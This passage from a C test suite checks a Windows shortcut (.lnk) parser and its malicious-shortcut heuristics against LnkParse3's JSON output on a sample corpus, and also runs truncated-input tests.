        buf_putc(b, (int)(0x80 | (cp >> 6 & 0x3F)));
        buf_putc(b, (int)(0x80 | (cp & 0x3F)));
    }
}

/* js_string - the JSON string at s into out (NULL: skip); the position after it, or NULL */
static const char *js_string(const char *s, BUF *out)
{
    static const char esc[] = "\"\"\\\\//b\bf\fn\nr\rt\t";
    if (*s++ != '"')
        return NULL;
    while (*s && *s != '"') {
        if (*s != '\\') {
            if (out)
                buf_putc(out, *s);
            s++;
            continue;
        }
        const char *e = s[1] ? strchr(esc, s[1]) : NULL;
        if (e && (e - esc) % 2 == 0) {
            if (out)
                buf_putc(out, e[1]);
            s += 2;
            continue;
        }
        long u = s[1] == 'u' ? js_hex4(s + 2) : -1, v = -1;
        if (u < 0)
            return NULL;
        s += 6;
        if (u >= 0xD800 && u < 0xDC00 && s[0] == '\\' && s[1] == 'u' &&
            (v = js_hex4(s + 2)) >= 0xDC00 && v < 0xE000) {
            u = 0x10000 + ((u - 0xD800) << 10) + (v - 0xDC00);
            s += 6;
        }
        if (out)
            js_utf8(out, (unsigned long)u);
    }
    return *s == '"' ? s + 1 : NULL;
}

/* js_skip - the position after the JSON value at s, or NULL */
static const char *js_skip(const char *s)
{
    s = js_ws(s);
    if (*s == '"')
        return js_string(s, NULL);
    if (*s != '{' && *s != '[') {
        while (*s && !strchr(",}] \t\r\n", *s))
            s++;
        return s;
    }
    int depth = 0;
    do {
        if (*s == '"') {
            if ((s = js_string(s, NULL)) == NULL)
                return NULL;
            continue;
        }
        if (*s == '{' || *s == '[')
            depth++;
        else if (*s == '}' || *s == ']')
            depth--;
        else if (*s == 0)
            return NULL;
        s++;
    } while (depth > 0);
    return s;
}

/* js_member - the value of `key` in the object at s, or NULL */
static const char *js_member(const char *s, const char *key)
{
    s = js_ws(s);
    if (*s++ != '{')
        return NULL;
    BUF *k = buf_new(32);
    const char *r = NULL;
    while (s && *(s = js_ws(s)) == '"') {
        buf_reset(k);
        s = js_string(s, k);
        if (s == NULL || *(s = js_ws(s)) != ':')
            break;
        s = js_ws(s + 1);
        if (strcmp(k->data, key) == 0) {
            r = s;
            break;
        }
        s = js_skip(s);
        if (s && *(s = js_ws(s)) == ',')
            s++;
    }
    buf_free(k);
    return r;
}

/* js_get - the string at a dotted path ("data.description"), malloc'd; NULL when absent */
static char *js_get(const char *doc, const char *path)
{
    char *copy = xstrdup(path), *save = NULL;
    const char *v = doc;
    for (char *k = strtok_r(copy, ".", &save); k && v; k = strtok_r(NULL, ".", &save))
        v = js_member(v, k);
    free(copy);
    if (v == NULL || *v != '"')
        return NULL;
    BUF *b = buf_new(64);
    if (js_string(v, b) == NULL) {
        buf_free(b);
        return NULL;
    }
    char *r = buf_steal(b, NULL);
    buf_free(b);
    return r;
}

/* ------------------------------------------------------------------ corpus */

/* have_corpus - ../shared/corpus is there */
static bool have_corpus(void)
{
    struct stat st;
    return stat(CORPUS, &st) == 0 && S_ISDIR(st.st_mode);
}

/* cmp_names - qsort order of sample names */
static int cmp_names(const void *a, const void *b)
{
    return strcmp(*(char *const *)a, *(char *const *)b);
}

/* sample_names - the names of samples_decoded/NAME.lnk, sorted, NULL-terminated */
static char **sample_names(size_t *count)
{
    DIR *d = opendir(LNKDIR "/samples_decoded");
    char **v = NULL;
    size_t n = 0, cap = 0;
    for (struct dirent *e; d && (e = readdir(d)) != NULL;) {
        size_t k = strlen(e->d_name);
        if (k <= 4 || strcmp(e->d_name + k - 4, ".lnk") != 0)
            continue;
        XGROW(v, n, cap);
        v[n++] = xstrndup(e->d_name, k - 4);
    }
    if (d)
        closedir(d);
    if (n > 0)
        qsort(v, n, sizeof(*v), cmp_names);
    XGROW(v, n, cap);
    v[n] = NULL;
    *count = n;
    return v;
}

enum { C_ARGS, C_WDIR, C_REL, C_NAME, C_ICON, C_TARGET, C_ENV, C_FIELDS };
static const char *const field_label[C_FIELDS] = {"args", "wdir",   "rel", "name",
                                                  "icon", "target", "env"};
static const char *const field_json[C_FIELDS] = {"data.command_line_arguments",
                                                 "data.working_directory", "data.relative_path",
                                                 "data.description", "data.icon_location"};

/*
 * want_target - LnkParse3's target: local_base_path + common_path_suffix ([MS-SHLLINK]
 * 2.3: the full path is LocalBasePath with CommonPathSuffix appended; LnkParse3 prints
 * them apart), else net_name \ common_path_suffix for a network LinkInfo; NULL when the
 * JSON has no LinkInfo path (then our target comes from the ID list, which LnkParse3
 * does not join into a path, so it is not compared).
 *
 * Known quirk: LnkParse3 decodes code-page strings with Python's cp1252 codec and
 * errors="replace"; we read them as cp1252 too, but the five bytes cp1252 leaves undefined
 * (0x81 0x8D 0x8F 0x90 0x9D) keep their C1 code point, as Windows' own conversion does.
 * decoding_error4's CommonPathSuffix ends in byte 0x90 ("MZ\x90", a PE header read as a
 * name): LnkParse3 prints U+FFFD and we U+0090. That disagreement is LnkParse3's.
 */
static char *want_target(const char *doc)
{
    char *base = js_get(doc, "link_info.local_base_path");
    char *net = js_get(doc, "link_info.location_info.net_name");
    char *suffix = js_get(doc, "link_info.common_path_suffix");
    char *r = NULL;
    if (base)
        r = xasprintf("%s%s", base, suffix ? suffix : "");
    else if (net)
        r = xasprintf("%s%s%s", net, suffix && *suffix ? "\\" : "", suffix ? suffix : "");
    free(base);
    free(net);
    free(suffix);
    return r;
}

/* want_env - the environment block target: target_unicode, else target_ansi */
static char *want_env(const char *doc)
{
    char *u = js_get(doc, "extra.ENVIRONMENTAL_VARIABLES_LOCATION_BLOCK.target_unicode");
    if (u && *u)
        return u;
    free(u);
    return js_get(doc, "extra.ENVIRONMENTAL_VARIABLES_LOCATION_BLOCK.target_ansi");
}

/* got_field - our value of field f */
static const char *got_field(const LNK *l, int f)
{
    const char *v[C_FIELDS] = {l->arguments,     l->working_dir, l->relative_path, l->name,
                               l->icon_location, l->target,      l->env_target};
    return v[f];
}

typedef struct TALLY {
    int compared[C_FIELDS], agreed[C_FIELDS];
    int args_json, args_agreed; /* samples whose JSON has command_line_arguments */
    BUF *diffs;
} TALLY;

/* shown - a value for the report: sanitized, cut, or (absent) */
static char *shown(const char *s)
{
    return s ? str_sanitize_dup(s, 140) : xstrdup("(absent)");
}

/* compare_sample - compare one sample's fields, print its table row */
static void compare_sample(TALLY *t, const char *name, const LNK *l, const char *doc)
{
    printf("  %-34s", name);
    for (int f = 0; f < C_FIELDS; f++) {
        char *want = f == C_TARGET ? want_target(doc)
                     : f == C_ENV  ? want_env(doc)
                                   : js_get(doc, field_json[f]);
        const char *got = got_field(l, f);
        bool compare = want != NULL || (got != NULL && f != C_TARGET);
        bool agree = compare && want && got && strcmp(want, got) == 0;
        printf(" %-6s", !compare ? "." : agree ? "=" : "DIFF");
        if (compare) {
            t->compared[f]++;
            t->agreed[f] += agree;
        }
        if (f == C_ARGS && want) {
            t->args_json++;
            t->args_agreed += agree;
        }
        if (compare && !agree) {
            char *a = shown(got), *b = shown(want);
            buf_printf(t->diffs, "  %s %s:\n    ours      %s\n    LnkParse3 %s\n", name,
                       field_label[f], a, b);
            free(a);
            free(b);
        }
        free(want);
    }
    printf(" %s\n", l->truncated ? "truncated" : "");
}

/* print_totals - per-field agreement and the disagreements */
static void print_totals(const TALLY *t, int samples)
{
    printf("  %d samples compared\n  field    agree / compared\n", samples);
    for (int f = 0; f < C_FIELDS; f++)
        printf("  %-7s  %5d / %d\n", field_label[f], t->agreed[f], t->compared[f]);
    printf("  command_line_arguments in the JSON: %d, agreeing exactly: %d\n", t->args_json,
           t->args_agreed);
    printf("  disagreements:\n%s", t->diffs->len ? t->diffs->data : "  (none)\n");
}

/*
 * test_corpus - our fields against LnkParse3's JSON for every sample that has one.
 * Two samples come out `truncated`, rightly: extra_data's terminal block claims 16 bytes
 * where 4 are left, and padded_cli_arguments ends with its last string, without the
 * terminal block [MS-SHLLINK] requires. Both are parsed completely all the same.
 */
static void test_corpus(void **state)
{
    (void)state;
    if (!have_corpus())
        skip();
    size_t count;
    char **names = sample_names(&count);
    TALLY t = {.diffs = buf_new(1024)};
    int samples = 0;
    printf("  %-34s", "sample");
    for (int f = 0; f < C_FIELDS; f++)
        printf(" %-6s", field_label[f]);
    printf("\n");
    for (size_t i = 0; i < count; i++) {
        char *jp = xasprintf(LNKDIR "/json/%s.json", names[i]);
        char *lp = xasprintf(LNKDIR "/samples_decoded/%s.lnk", names[i]);
        size_t n;
        char *doc = (char *)slurp(jp, NULL);
        unsigned char *p = slurp(lp, &n);
        if (doc && p && *js_ws(doc) == '{') {
            unsigned char *q = exact(p, n);
            LNK *l = lnk_parse(q, n);
            assert_non_null(l);
            compare_sample(&t, names[i], l, doc);
            samples++;
            lnk_free(l);
            free(q);
        }
        free(doc);
        free(p);
        free(jp);
        free(lp);
        free(names[i]);
    }
    free(names);
    print_totals(&t, samples);
    buf_free(t.diffs);
    assert_true(samples >= 30);
    assert_true(t.args_json > 0);
    assert_int_equal(t.args_agreed, t.args_json);
    for (int f = 0; f < C_FIELDS; f++)
        assert_true(t.agreed[f] * 10 >= t.compared[f] * 9);
}

/* test_corpus_heur - heur_lnk over every sample: the symbols, and the ones we expect */
static void test_corpus_heur(void **state)
{
    (void)state;
    if (!have_corpus())
        skip();
    /* the shortcuts that start cmd.exe minimized (USB worms, droppers) */
    static const char *const hidden_cmd[] = {"decoding_error2", "sample13", "padded_cli_arguments",
                                             "invalid_date2", "unknown_block"};
    size_t count;
    char **names = sample_names(&count);
    int fails = 0;
    for (size_t i = 0; i < count; i++) {
        char *lp = xasprintf(LNKDIR "/samples_decoded/%s.lnk", names[i]);
        size_t n;
        unsigned char *p = slurp(lp, &n);
        HITS *h = hits_new();
        HEUR_CTX c = {.hits = h, .location = "1"};
        stub_reset();
        heur_lnk(&c, p, n);
        char got[256];
        symbols(h, got, sizeof(got));
        bool want = false;
        for (size_t k = 0; k < sizeof(hidden_cmd) / sizeof(hidden_cmd[0]); k++)
            want = want || strcmp(names[i], hidden_cmd[k]) == 0;
        bool has = hits_has(h, "LNK_SCRIPT_HOST_TARGET") && hits_has(h, "LNK_HIDDEN_WINDOW");
        printf("  %-28s %s%s\n", names[i], got, want != has ? "   <- UNEXPECTED" : "");
        fails += want != has;
        hits_free(h);
        free(p);
        free(lp);
        free(names[i]);
    }
    free(names);
    assert_int_equal(fails, 0);
}

/* test_corpus_prefixes - three real samples cut at every byte */
static void test_corpus_prefixes(void **state)
{
    (void)state;
    if (!have_corpus())
        skip();
    static const char *const some[] = {"microsoft_example", "padded_cli_arguments", "sample"};
    for (size_t i = 0; i < sizeof(some) / sizeof(some[0]); i++) {
        char *lp = xasprintf(LNKDIR "/samples_decoded/%s.lnk", some[i]);
        size_t n;
        unsigned char *p = slurp(lp, &n);
        assert_non_null(p);
        check_prefixes(p, n, some[i]);
        free(p);
        free(lp);
    }
}

/* teardown - free what the stand-ins keep */
static int teardown(void **state)
{
    (void)state;
    script_data = buf_free(script_data);
    registry_data = buf_free(registry_data);
    return 0;
}

/* main - run the lnk tests */
int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_minimal),
        cmocka_unit_test(test_fields),
        cmocka_unit_test(test_idlist_target),
        cmocka_unit_test(test_network),
        cmocka_unit_test(test_text),
        cmocka_unit_test(test_max_path),
        cmocka_unit_test(test_prefixes),
        cmocka_unit_test(test_hostile_sizes),
        cmocka_unit_test(test_hostile_blocks),
        cmocka_unit_test(test_hostile_misc),
        cmocka_unit_test(test_heur_powershell),
        cmocka_unit_test(test_heur_benign),
        cmocka_unit_test(test_heur_cases),
        cmocka_unit_test(test_heur_not_link),
        cmocka_unit_test(test_corpus),
        cmocka_unit_test(test_corpus_heur),
        cmocka_unit_test(test_corpus_prefixes),
    };
    stub_reset();
    return cmocka_run_group_tests_name("lnk", tests, NULL, teardown);
}
